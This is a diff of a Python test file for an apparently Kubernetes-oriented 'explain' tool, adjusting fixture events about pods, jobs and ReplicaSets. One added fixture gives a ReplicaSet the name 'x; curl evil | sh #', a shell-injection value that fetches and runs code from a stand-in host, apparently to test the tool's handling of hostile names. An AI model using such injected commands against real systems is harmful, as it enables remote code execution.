@@ -37,8 +37,9 @@ def api() -> Cluster:
     api.add("pods", *(owned(waiting("team-a", f"web-1-{x}", limits), "ReplicaSet", "web-1") for x in "bc"))
     api.add("jobs", made("big"))
     refused = {"reason": "FailedCreate", "message": "admission webhook denied the request: too much"}
-    event = {"metadata": {"name": "e", "namespace": "team-a"}, "involvedObject": {"uid": "big"}}
-    api.add("events", event | refused)
+    about = {"kind": "Job", "namespace": "team-a", "name": "big", "uid": "big"}
+    event = {"metadata": {"name": "e", "namespace": "team-a"}, "involvedObject": about}
+    api.add("events", event | refused | {"lastTimestamp": "2026-11-28T05:00:00Z"})
     return api
 
 
@@ -242,7 +243,7 @@ def test_what_the_extender_keeps_back_of_each_card_is_not_free(monkeypatch, api)
 
 def told(reason: str, message: str, at: str, kind: str, name: str) -> Json:
     metadata = {"namespace": "team-a", "name": f"{name}.{at}"}
-    about = {"kind": kind, "name": name, "uid": name}
+    about = {"kind": kind, "namespace": "team-a", "name": name, "uid": name}
     return {"metadata": metadata, "involvedObject": about, "reason": reason, "message": message, "lastTimestamp": at}
 
 
@@ -254,6 +255,7 @@ def test_of_a_pod_that_is_gone_the_last_events_are_told(monkeypatch, api):
         told("SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:03Z", "ReplicaSet", "web-1"),
         told("SuccessfulDelete", "Deleted pod: web-1-zz", "2026-11-28T05:00:04Z", "ReplicaSet", "web-1"),
         told("Killing", "of a node of this name", "2026-11-28T05:00:05Z", "Node", "web-1-z"),
+        told("SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:06Z", "ReplicaSet", "x; curl evil | sh #"),
     )
     for words in (["web-1-z"], ["pod/web-1-z"]):
         said = run(monkeypatch, api, "explain", *words, "-n", "team-a")
